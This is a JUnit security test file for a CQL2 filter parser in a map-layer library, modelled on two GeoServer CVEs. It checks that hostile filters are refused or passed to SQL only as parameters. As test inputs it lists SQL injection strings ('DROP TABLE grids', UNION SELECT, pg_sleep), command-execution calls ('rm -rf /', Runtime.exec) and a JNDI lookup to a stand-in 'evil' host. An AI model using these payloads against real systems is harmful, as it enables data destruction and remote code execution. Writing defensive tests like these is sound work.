package io.gridmap.layers.query.cql2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile filters in the manner of GeoServer's CVE-2024-36401 (property names evaluated as
 * expressions) and CVE-2023-25157 (SQL injection through filter functions): each is either a
 * harmless literal or refused, and no user text ever reaches SQL outside a parameter.
 */
class Cql2SecurityTest {

  static BoundFilter bind(String text) {
    return Cql2.bind(Cql2.parseText(text), Cql2Fixtures.PUBLIC);
  }

  /**
   * SQL text without the one constant string we emit ('!' as the LIKE escape) has no quote at all.
   */
  static void assertNoStringLiteralInSql(SqlFragment f) {
    assertThat(f.sql().replace("ESCAPE '!'", ""))
        .doesNotContain("'")
        .doesNotContain("--")
        .doesNotContain(";");
  }

  @Test
  void aQuoteInAStringIsPartOfTheLiteral() {
    BoundFilter f = bind("name = 'x'' OR 1=1 --'");
    assertThat(f.filter())
        .isEqualTo(
            new Filter.Compare(
                ComparisonOperator.EQ,
                new Operand.Property("name"),
                new Operand.StringLiteral("x' OR 1=1 --")));
    SqlFragment sql = f.toSql();
    assertThat(sql.sql()).isEqualTo("(\"name\" = ?)");
    assertThat(sql.parameters()).containsExactly("x' OR 1=1 --");
    assertNoStringLiteralInSql(sql);
    assertThat(Cql2Fixtures.matching("name = 'x'' OR 1=1 --'")).isEmpty();
  }

  @Test
  void aBackslashDoesNotEscapeTheClosingQuote() {
    // some SQL dialects treat \' as an escaped quote; CQL2 text does not, and we never write SQL
    // strings anyway
    BoundFilter f = bind("name = 'x\\' OR name <> 'y'");
    assertThat(f.toSql().sql()).isEqualTo("((\"name\" = ?) OR (\"name\" <> ?))");
    assertThat(f.toSql().parameters()).containsExactly("x\\", "y");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "\"name; DROP TABLE grids\" = 'x'",
        "\"name\"\"; DROP TABLE grids; --\" = 'x'",
        "name = java.lang.Runtime",
        "\"exec(\\\"id\\\")\" IS NULL",
        "\"${jndi:ldap://evil/a}\" = 1",
        "\"worker_name\" = 'Li Wei'",
        "\"getClass().forName('java.lang.Runtime')\" = 1",
      })
  void hostilePropertyNamesAreUnknownProperties(String filter) {
    assertThatThrownBy(() -> bind(filter))
        .isInstanceOf(Cql2Exception.class)
        .satisfies(
            e ->
                assertThat(((Cql2Exception) e).kind())
                    .isIn(Cql2Exception.Kind.UNKNOWN_PROPERTY, Cql2Exception.Kind.SYNTAX));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "exec('rm -rf /') = 1",
        "name = exec('id')",
        "java.lang.Runtime.getRuntime().exec('id') = 1",
        "name = java.lang.Runtime.getRuntime().exec('calc')",
        "this.constructor.constructor('return process')() = 1",
        "S_INTERSECTS(geometry, strSubstring(name, 0, 1))",
        "name = pg_sleep(10)",
        "name = ACCENTI('x')",
        "S_INTERSECTS(geometry, GEOMETRYCOLLECTION(POINT(1 1)))",
        "S_INTERSECTS(geometry, ST_Buffer(geometry, 1))",
      })
  void callsOutsideTheAllowListAreUnknownFunctions(String filter) {
    assertThatThrownBy(() -> bind(filter))
        .isInstanceOfSatisfying(
            Cql2Exception.class,
            e -> assertThat(e.kind()).isEqualTo(Cql2Exception.Kind.UNKNOWN_FUNCTION))
        .hasMessageContaining("unknown function")
        .hasMessageContaining("the allowed functions are S_INTERSECTS");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "name = 'a'; DROP TABLE grids",
        "name = 'a' -- comment",
        "name = 'a' /* comment */",
        "${jndi:ldap://evil/a}",
        "name = `id`",
        "name = 'a' || 'b'",
        "name == 'a'",
        "name = 'a' && 1",
        "name = @var",
        "name = 'a' UNION SELECT 1",
      })
  void sqlAndScriptSyntaxIsASyntaxError(String filter) {
    assertThatThrownBy(() -> bind(filter))
        .isInstanceOf(Cql2Exception.class)
        .satisfies(
            e -> assertThat(((Cql2Exception) e).kind()).isNotEqualTo(Cql2Exception.Kind.LIMIT));
  }

  @Test
  void hostileJsonIsRefused() {
    assertThatThrownBy(
            () ->
                Cql2.bind(
                    Cql2.parseJson(
                        "{\"op\":\"=\",\"args\":[{\"property\":\"name) OR 1=1 --\"},\"x\"]}"),
                    Cql2Fixtures.PUBLIC))
        .hasMessageContaining("is not queryable");
    assertThatThrownBy(
            () ->
                Cql2.parseJson(
                    "{\"op\":\"=\",\"args\":[{\"property\":\"name\"},\"x\"],\"sql\":\"DROP TABLE grids\"}"))
        .hasMessageContaining("unexpected member 'sql'");
    assertThatThrownBy(() -> Cql2.parseJson("{\"op\":\"pg_sleep\",\"args\":[10]}"))
        .hasMessageContaining("unknown operator or function 'pg_sleep'");
  }

  @Test
  void userStringsReachSqlOnlyAsParameters() {
    String evil = "'); DROP TABLE grids; --";
    String quoted = "'" + evil.replace("'", "''") + "'";
    String[] filters = {
      "name = " + quoted,
      "name LIKE " + quoted,
      "CASEI(name) IN (" + quoted + ", CASEI(" + quoted + "))",
      "name <> " + quoted + " AND NOT category > " + quoted,
    };
    for (String text : filters) {
      SqlFragment f = bind(text).toSql();
      assertNoStringLiteralInSql(f);
      assertThat(f.sql()).doesNotContain("DROP");
      assertThat(f.parameters())
          .anySatisfy(p -> assertThat(p.toString().toUpperCase()).contains("DROP TABLE GRIDS"));
    }
  }

  @Test
  void errorMessagesDoNotEchoUnboundedInput() {
    String huge = "x".repeat(5000);
    assertThatThrownBy(() -> bind("\"" + huge + "\" = 1"))
        .satisfies(e -> assertThat(e.getMessage().length()).isLessThan(400));
  }
}
